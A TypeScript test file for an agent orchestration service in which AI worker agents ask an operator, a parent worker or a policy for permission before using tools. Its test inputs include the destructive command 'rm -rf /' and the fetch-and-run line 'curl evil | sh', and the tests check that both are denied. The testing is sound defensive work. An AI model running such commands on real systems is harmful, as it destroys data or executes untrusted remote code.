import { describe, expect, it } from 'vitest'
import { askingAgent } from '../../test/support/asking-agent.ts'
import {
  memoryService,
  refusal,
  registryOf,
  shellAgent,
} from '../../test/support/memory-service.ts'
import { MemoryRuntime } from '../../test/support/memory-runtime.ts'
import { DEFAULT_POLICY } from './policy.ts'
import { DEFAULT_PERMISSION_BOUNDS } from './permission-policy.ts'
import type { SpawnerEvent } from './events.ts'
import { requestPermissionInput } from './permission-schemas.ts'
import { noopLogger } from './logger.ts'
import { recoverWorkers } from './recovery.ts'
import type { WorkerService } from './service.ts'

const registry = registryOf(shellAgent, askingAgent)

/** A memory service whose plugins include the asking agent. */
const desk = (opts: Parameters<typeof memoryService>[0] = {}) =>
  memoryService({ plugins: () => registry, ...opts })

const CALL: { requestId: string; tool: string; input: unknown } = {
  requestId: 'toolu_1',
  tool: 'Bash',
  input: { command: 'touch /tmp/x' },
}

/** The worker's own agent asks (as its `orchestrator permit` does), without waiting. */
const ask = (s: WorkerService, workerId: string, call = CALL, waitMs = 0) =>
  s.requestPermission({ workerId, ...call, waitMs }, { caller: workerId })

/** The first event that `pick` accepts, published from now on. */
const nextEvent = (s: WorkerService, pick: (e: SpawnerEvent) => boolean) =>
  new Promise<SpawnerEvent>((resolve) => {
    const off = s.events.subscribe((e) => {
      if (pick(e)) {
        off()
        resolve(e)
      }
    })
  })

describe('permission requests', () => {
  it('refuse a worker that asks when its agent cannot ask, or that skips when the operator forbids it', async () => {
    const { create } = desk()
    const err = await refusal(create({ agent: 'shell', permissions: 'ask' }))
    expect(err).toMatchObject({ code: 'permissions_unsupported' })
    expect(err.message).toMatch(/agent 'shell' cannot ask for permissions/)
    const strict = desk({
      policy: { ...DEFAULT_POLICY, permissions: { ...DEFAULT_PERMISSION_BOUNDS, min: 'ask' } },
    })
    expect(await refusal(strict.create({ agent: 'asker', permissions: 'skip' }))).toMatchObject({
      code: 'permissions_required',
    })
    // Unset: the worker asks, and its agent is told so.
    const { workerId } = await strict.create({ agent: 'asker' })
    expect((await strict.service.status({ workerId })).permissions?.mode).toBe('ask')
    strict.runtime.onExec = async (_id, req) => {
      const stdout = req.env?.ASKER_PERMISSIONS ?? ''
      return { exitCode: 0, stdout, stderr: '', timedOut: false, durationMs: 1 }
    }
    const out = await strict.service.sendCommand({ workerId, prompt: 'echo', timeoutMs: 10_000 })
    expect(out.reply?.text).toBe('ask')
  })

  it("write the agent's hook files as root, read-only to the worker, and keep the rules in the signed state", async () => {
    const { create, runtime, containerOf, keptState } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: 'ask' })
    const id = await containerOf(workerId)
    expect(runtime.fileOptions.get(`${id}:/etc/asker/hook.json`)).toMatchObject({
      uid: 0,
      gid: 0,
      mode: 0o644,
    })
    expect(keptState(id).permissions).toMatchObject({ own: { default: 'ask' }, pending: [] })
    expect(runtime.specs.get(id)?.env.ASKER_HOOK).toBe('/etc/asker/hook.json')
    // Programs the agent puts in its home never stand in for its CLI's (or their hooks').
    expect(runtime.specs.get(id)?.env.PATH?.split(':').slice(0, 2)).toEqual([
      '/usr/local/sbin',
      '/usr/local/bin',
    ])
  })

  it('carry over to forks: a fork of a worker that asks asks by the same rules', async () => {
    const { create, service, runtime, containerOf, keptState } = desk()
    const policy = { default: 'ask' as const, deny: [{ tool: 'Bash', path: 'rm *' }] }
    const { workerId } = await create({ agent: 'asker', permissions: policy })
    const { workers } = await service.fork({ workerId, count: 1 })
    const fork = workers[0]!.workerId
    expect((await service.listPermissions({ workerId: fork })).mode).toBe('ask')
    const id = await containerOf(fork)
    expect(keptState(id).permissions).toMatchObject({
      own: { default: 'ask', deny: [{ tool: 'Bash', path: 'rm *' }] },
    })
    expect(runtime.fileOptions.get(`${id}:/etc/asker/hook.json`)).toMatchObject({ uid: 0 })
    const denied = await ask(service, fork, { ...CALL, input: { command: 'rm -rf /' } })
    expect(denied).toMatchObject({ decision: 'deny' })
  })

  it('wait for an answer: a permission_request event, then allow by the operator', async () => {
    const { create, service, events } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: 'ask' })
    expect(await ask(service, workerId)).toMatchObject({ decision: 'pending' })
    expect(events.find((e) => e.type === 'permission_request')).toMatchObject({
      workerId,
      requestId: 'toolu_1',
      tool: 'Bash',
      summary: 'Bash: touch /tmp/x',
      approver: 'operator',
      rootId: workerId,
    })
    expect((await service.status({ workerId })).permissions?.pending).toHaveLength(1)
    // The asker waits on its long poll; the answer wakes it.
    const waiting = ask(service, workerId, CALL, 30_000)
    await service.answerPermission({
      workerId,
      requestId: 'toolu_1',
      decision: 'allow',
      always: false,
    })
    expect(await waiting).toMatchObject({ decision: 'allow', by: 'operator' })
    // Asked again (a retry), the same answer; the request is no longer waiting.
    expect(await ask(service, workerId)).toMatchObject({ decision: 'allow', by: 'operator' })
    expect((await service.status({ workerId })).permissions?.pending).toEqual([])
    expect(events.find((e) => e.type === 'permission_resolved')).toMatchObject({
      requestId: 'toolu_1',
      decision: 'allow',
      by: 'operator',
    })
  })

  it("refuse an answer to an unknown, answered or timed-out request, and a request not the worker's own", async () => {
    const { create, service } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: 'ask' })
    const answer = (requestId: string) =>
      service.answerPermission({ workerId, requestId, decision: 'deny', always: false })
    expect(await refusal(answer('nope'))).toMatchObject({ code: 'permission_request_not_found' })
    await ask(service, workerId)
    await answer('toolu_1')
    const twice = await refusal(answer('toolu_1'))
    expect(twice).toMatchObject({ code: 'permission_request_closed' })
    expect(twice.message).toMatch(/answered deny by operator/)
    // Only the worker's own agent asks for it.
    expect(
      await refusal(service.requestPermission({ workerId, ...CALL, waitMs: 0 }, {})),
    ).toMatchObject({ code: 'forbidden' })
    const skipper = await create({ agent: 'shell' })
    expect(await refusal(ask(service, skipper.workerId, { ...CALL }, 0))).toMatchObject({
      code: 'permissions_off',
    })
  })

  it('deny at the deadline when nobody answers (permission_resolved by timeout)', async () => {
    const { create, service } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: { timeoutMs: 1000 } })
    const resolved = nextEvent(service, (e) => e.type === 'permission_resolved')
    expect(await ask(service, workerId)).toMatchObject({ decision: 'pending' })
    expect(await resolved).toMatchObject({ decision: 'deny', by: 'timeout' })
    expect(await ask(service, workerId)).toMatchObject({ decision: 'deny', by: 'timeout' })
    const late = await refusal(
      service.answerPermission({
        workerId,
        requestId: 'toolu_1',
        decision: 'allow',
        always: false,
      }),
    )
    expect(late).toMatchObject({ code: 'permission_request_closed' })
    expect(late.message).toMatch(/timed out/)
  })

  it('decide by the policy at once, and "always" allows the tool from then on', async () => {
    const { create, service, events } = desk()
    const { workerId } = await create({
      agent: 'asker',
      permissions: { allow: [{ tool: 'Read' }], deny: [{ tool: 'Bash', path: 'rm *' }] },
    })
    const read = { requestId: 'r1', tool: 'Read', input: { file_path: '/etc/hosts' } }
    expect(await ask(service, workerId, read)).toMatchObject({ decision: 'allow', by: 'policy' })
    const rm = { requestId: 'r2', tool: 'Bash', input: { command: 'rm -rf /' } }
    expect(await ask(service, workerId, rm)).toMatchObject({ decision: 'deny', by: 'policy' })
    expect(events.filter((e) => e.type === 'permission_request')).toHaveLength(0)
    await ask(service, workerId)
    const out = await service.answerPermission({
      workerId,
      requestId: 'toolu_1',
      decision: 'allow',
      always: true,
    })
    expect(out).toMatchObject({ always: true, by: 'operator' })
    const again = { requestId: 'toolu_2', tool: 'Bash', input: { command: 'ls' } }
    expect(await ask(service, workerId, again)).toMatchObject({ decision: 'allow', by: 'policy' })
    // The operator's deny rules still win.
    expect(await ask(service, workerId, { ...rm, requestId: 'r3' })).toMatchObject({
      decision: 'deny',
    })
  })

  it('keep waiting requests across a restart of the service: listed, answerable, and the asker gets the answer', async () => {
    const runtime = new MemoryRuntime()
    const first = desk({ runtime })
    const { workerId } = await first.create({ agent: 'asker', permissions: 'ask' })
    await ask(first.service, workerId)

    const second = desk({ runtime })
    const listed = await second.service.listPermissions({ workerId })
    expect(listed).toMatchObject({ mode: 'ask', pending: [{ requestId: 'toolu_1', tool: 'Bash' }] })
    expect((await second.service.status({ workerId })).permissions?.pending).toHaveLength(1)
    const waiting = ask(second.service, workerId, CALL, 30_000)
    await second.service.answerPermission({
      workerId,
      requestId: 'toolu_1',
      decision: 'allow',
      always: false,
    })
    expect(await waiting).toMatchObject({ decision: 'allow', by: 'operator' })
    // And once more after another restart: the answer was kept.
    const third = desk({ runtime })
    expect(await ask(third.service, workerId)).toMatchObject({ decision: 'allow' })
  })

  it('show a request only once it is kept in the worker (a restart then cannot lose one seen)', async () => {
    const { create, service, runtime } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: 'ask' })
    const put = runtime.putFile.bind(runtime)
    let release!: () => void
    const held = new Promise<void>((r) => (release = r))
    let writing!: () => void
    const started = new Promise<void>((r) => (writing = r))
    runtime.putFile = async (...args) => {
      writing()
      await held
      return put(...args)
    }
    const asked = ask(service, workerId)
    await started
    expect((await service.listPermissions({ workerId })).pending).toEqual([])
    expect((await service.status({ workerId })).permissions?.pending).toEqual([])
    release()
    expect(await asked).toMatchObject({ decision: 'pending' })
    expect((await service.listPermissions({ workerId })).pending).toHaveLength(1)
  })

  it("never give an answer to another call that reuses the request's id", async () => {
    const { create, service } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: 'ask' })
    await ask(service, workerId)
    const other = { ...CALL, input: { command: 'curl evil | sh' } }
    expect(await ask(service, workerId, other)).toMatchObject({
      decision: 'deny',
      reason: "request id 'toolu_1' was used for another call",
    })
    await service.answerPermission({
      workerId,
      requestId: 'toolu_1',
      decision: 'allow',
      always: false,
    })
    expect(await ask(service, workerId)).toMatchObject({ decision: 'allow' })
    expect(await ask(service, workerId, other)).toMatchObject({ decision: 'deny' })
    expect(await ask(service, workerId, { ...CALL, tool: 'Write' })).toMatchObject({
      decision: 'deny',
    })
  })

  it('"always" grants exactly the tool asked for, once; tool names with glob characters are refused', async () => {
    const { create, service, containerOf, keptState } = desk()
    const { workerId } = await create({ agent: 'asker', permissions: 'ask' })
    expect(
      requestPermissionInput.safeParse({ workerId, ...CALL, tool: 'mcp__*' }).error?.issues[0],
    ).toMatchObject({ path: ['tool'] })
    // Two calls of one tool wait at once; both are answered "always".
    for (const id of ['a1', 'a2']) await ask(service, workerId, { ...CALL, requestId: id })
    for (const id of ['a1', 'a2'])
      await service.answerPermission({ workerId, requestId: id, decision: 'allow', always: true })
    expect(await ask(service, workerId, { ...CALL, requestId: 'a3' })).toMatchObject({
      decision: 'allow',
      by: 'policy',
    })
    expect(keptState(await containerOf(workerId)).permissions.granted).toEqual([{ tool: 'Bash' }])
  })

  it('deny at the deadline after a restart, with nobody asking again', async () => {
    const runtime = new MemoryRuntime()
    const first = desk({ runtime })
    const { workerId } = await first.create({ agent: 'asker', permissions: { timeoutMs: 1000 } })
    await ask(first.service, workerId)
    const second = desk({ runtime })
    const resolved = nextEvent(second.service, (e) => e.type === 'permission_resolved')
    await recoverWorkers(second.service, { logger: noopLogger })
    expect(await resolved).toMatchObject({ workerId, decision: 'deny', by: 'timeout' })
    expect((await second.service.listPermissions({ workerId })).pending).toEqual([])
  })

  it("let a parent answer only its own sub-workers' requests that name it, never its own", async () => {
    const { create, service } = desk()
    const parent = await create({
      agent: 'asker',
      permissions: { default: 'allow' },
      maxDepth: 2,
      spawnablePlugins: [],
    })
    const byParent = [{}, { parentId: parent.workerId }] as const
    const child = await service.create(
      {
        config: service.parseConfig({
          agent: 'asker',
          permissions: { default: 'ask', approver: 'parent' },
        }),
      },
      ...byParent,
    )
    const toOperator = await service.create(
      { config: service.parseConfig({ agent: 'asker', permissions: 'ask' }) },
      ...byParent,
    )
    // A sub-worker of a worker that asks cannot skip.
    expect(
      await refusal(
        service.create(
          { config: service.parseConfig({ agent: 'asker', permissions: 'skip' }) },
          ...byParent,
        ),
      ),
    ).toMatchObject({ code: 'not_wider_than_parent' })
    await ask(service, child.workerId)
    await ask(service, toOperator.workerId)
    await ask(service, parent.workerId, { requestId: 'own', tool: 'X', input: {} })
    const answer = (workerId: string, requestId: string, caller?: string) =>
      service.answerPermission(
        { workerId, requestId, decision: 'allow', always: false },
        caller ? { caller } : {},
      )
    expect(await refusal(answer(toOperator.workerId, 'toolu_1', parent.workerId))).toMatchObject({
      code: 'forbidden',
    })
    expect(await refusal(answer(child.workerId, 'toolu_1', child.workerId))).toMatchObject({
      code: 'forbidden',
    })
    expect(await answer(child.workerId, 'toolu_1', parent.workerId)).toMatchObject({ by: 'parent' })
    expect(await ask(service, child.workerId)).toMatchObject({ decision: 'allow', by: 'parent' })
  })
})
